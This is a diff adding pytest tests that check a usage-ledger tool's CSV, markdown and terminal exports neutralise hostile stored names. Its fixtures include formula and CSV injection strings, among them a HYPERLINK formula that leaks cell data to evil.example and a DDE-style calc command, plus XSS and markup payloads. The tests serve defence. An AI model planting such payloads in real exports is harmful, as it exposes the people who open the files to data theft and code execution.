@@ -1,6 +1,7 @@
 """Reports cannot take a server down: bounded windows and bucket counts (refused before any SQL), a
 statement timeout, their own few connections, and a query that stops when its client goes away. Also
-the time zones PostgreSQL refuses.
+the time zones PostgreSQL refuses, and exports that a spreadsheet or a markdown viewer cannot turn
+into formulas or markup.
 
 A report as slow as a report can be is made real without seeding millions of rows: another connection
 holds an ACCESS EXCLUSIVE lock on `tl_usage_daily`, which every usage report reads (checks and settles
@@ -11,11 +12,14 @@ connection, exactly as a long scan would.
 from __future__ import annotations
 
 import contextlib
+import csv
 import dataclasses
+import io
 import logging
 from collections.abc import AsyncIterator, Awaitable, Callable
 from datetime import UTC, datetime, timedelta
 from decimal import Decimal
+from pathlib import Path
 from typing import Any
 
 import anyio
@@ -40,6 +44,7 @@ from tokenledger.store import Store, StoreRefused
 from tokenledger.types import (
     BudgetSpec,
     CheckRequest,
+    PriceSpec,
     Principal,
     TrackRequest,
     UsageQuery,
@@ -466,3 +471,132 @@ async def test_dashboard_refuses_zones_postgresql_refuses(dsn: str, zone: str) -
                 headers={"Cookie": f"tokenledger_key={viewer}"},
             )
             assert page.status_code == 400 and f"timezone: &#x27;{zone}&#x27; is not allowed" in page.text
+
+
+# --- exports: no formulas, no markup -----------------------------------------------------------
+
+# Stored names an attacker can choose: attribution values (identifiers), request ids and a tenant-priced
+# model name (any printable text), budget names.
+FORMULAS = ("=1+2", "+cmd", "-2+3", "@SUM")
+ANY_TEXT = (
+    "@SUM(A1)",
+    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+    "<img src=x onerror=alert(1)>",
+    "[x](javascript:alert(1))",
+    "`code`|cell",
+    "\uff1dcmd|' /C calc'!A0",  # a full-width equals sign
+    "[link=https://evil.example]click[/link]",  # rich's own markup
+)
+EVIL_MODEL = "<img src=x onerror=alert(1)>"
+
+
+async def seed_hostile_names(ledger: Ledger) -> None:
+    await ledger.set_price(PriceSpec(model=EVIL_MODEL, input=Decimal("0.000001"), output=Decimal("0.000002")))
+    for feature in FORMULAS:
+        await ledger.track_usage(TrackRequest(model=MODEL, feature=feature, input_tokens=10, output_tokens=5))
+    for request_id in ANY_TEXT:
+        await ledger.track_usage(
+            TrackRequest(model=MODEL, request_id=request_id, input_tokens=1, output_tokens=1)
+        )
+    await ledger.track_usage(TrackRequest(model=EVIL_MODEL, input_tokens=3, output_tokens=1))
+    for name in ("@SUM", "-cmd"):
+        await ledger.set_budget(BudgetSpec(name=name, limit=Decimal(100)))
+
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
+
+
+def assert_no_formula(text: str) -> list[list[str]]:
+    """Every cell of the CSV is quoted, and none a spreadsheet would run (a plain negative number may
+    start with -)."""
+    lines = text.splitlines()
+    cells = list(csv.reader(io.StringIO(text)))
+    for line, row in zip(lines, cells, strict=True):
+        assert line == ",".join('"' + cell.replace('"', '""') + '"' for cell in row), "every cell quoted"
+        for cell in row:
+            is_number = cell.startswith("-") and cell[1:].replace(".", "", 1).isdigit()
+            assert not cell.startswith(FORMULA_STARTS) or is_number, cell
+    return cells
+
+
+def markdown_html(text: str) -> str:
+    """The markdown as a permissive renderer shows it (raw HTML on, every link scheme allowed)."""
+    from markdown_it import MarkdownIt
+
+    renderer = MarkdownIt("commonmark").enable("table")
+    renderer.validateLink = lambda url: True  # type: ignore[method-assign]
+    return str(renderer.render(text))
+
+
+def assert_no_markup(text: str, columns: int) -> None:
+    html = markdown_html(text)
+    assert "<img" not in html and "<a " not in html and "<code>" not in html, html
+    for row in html.split("<tr>")[1:]:
+        assert row.count("<td") + row.count("<th") == columns, "a | in a value split its cell"
+
+
+async def test_exports_neutralise_formulas_and_markup(ledger: Ledger) -> None:
+    await seed_hostile_names(ledger)
+    usage = await ledger.report(ReportQuery(view="usage", group_by=["feature", "model"], since="1h"))
+    top = await ledger.report(ReportQuery(view="top", since="1h", limit=100))
+    budgets = await ledger.report(ReportQuery(view="budgets"))
+    shown = {value for report in (usage, top, budgets) for row in report.rows for value in row.values()}
+    assert {*FORMULAS, *ANY_TEXT, EVIL_MODEL, "-cmd"} <= shown  # json keeps the stored text as it is
+
+    for report, column, hostile in [
+        (usage, "feature", FORMULAS),
+        (top, "request_id", ANY_TEXT),
+        (budgets, "name", ("@SUM", "-cmd")),
+    ]:
+        cells = assert_no_formula(reports.formatted(report, "csv").text or "")
+        header, *rows = cells
+        values = {row[header.index(column)] for row in rows}
+        for name in hostile:
+            assert (("'" + name) if name.startswith(FORMULA_STARTS) else name) in values
+        assert_no_markup(reports.formatted(report, "markdown").text or "", len(header))
+    usage_markdown = reports.formatted(usage, "markdown").text or ""
+    assert "\\<img src=x onerror=alert(1)\\>" in usage_markdown
+    assert "&lt;img src=x onerror=alert(1)&gt;" in markdown_html(usage_markdown)  # shown, as text
+    top_markdown = markdown_html(reports.formatted(top, "markdown").text or "")
+    assert "[x](javascript:alert(1))" in top_markdown and "`code`|cell" in top_markdown
+
+    async with Client(build_server(ledger, default_principal=ADMIN)) as client:
+        result = await client.call_tool("report", {"view": "usage", "group_by": ["feature"], "format": "csv"})
+        assert isinstance(result.structured_content, dict)
+        assert '"\'=1+2"' in assert_no_formula_text(result.structured_content["text"])
+
+
+def assert_no_formula_text(text: str) -> str:
+    assert_no_formula(text)
+    return text
+
+
+def test_plain_negative_numbers_stay_numbers() -> None:
+    rows: list[dict[str, reports.Cell]] = [
+        {"error": -12, "percent": "-3.5", "formula": "-3.5+1", "name": "-cmd", "sum": "=SUM(A1:A9)"}
+    ]
+    text = reports.render(rows, "csv") or ""
+    assert text.splitlines()[1] == '"-12","-3.5","\'-3.5+1","\'-cmd","\'=SUM(A1:A9)"'
+
+
+def test_cli_exports_are_neutralised(
+    dsn: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], tmp_path: Path
+) -> None:
+    async def seeded() -> None:
+        async with Ledger(await Store.open(dsn, migrate=False)) as ledger:
+            await seed_hostile_names(ledger)
+
+    anyio.run(seeded)
+    monkeypatch.setenv("TOKENLEDGER_DATABASE_URL", dsn)
+    base = ["report", "--view", "top", "--since", "1h", "--limit", "100"]
+    exported = tmp_path / "top.csv"
+    assert main([*base, "--format", "csv", "--output", str(exported)]) == 0
+    cells = assert_no_formula(exported.read_text())
+    assert '\'=HYPERLINK("http://evil.example/?leak="&A1,"click")' in {cell for row in cells for cell in row}
+    markdown = tmp_path / "top.md"
+    assert main([*base, "--format", "markdown", "--output", str(markdown)]) == 0
+    assert_no_markup(markdown.read_text(), len(cells[0]))
+    capsys.readouterr()
+    # The terminal table shows stored text as written, not as rich's own markup.
+    assert main([*base]) == 0
+    assert "[link=https://evil.example]click[/link]" in capsys.readouterr().out
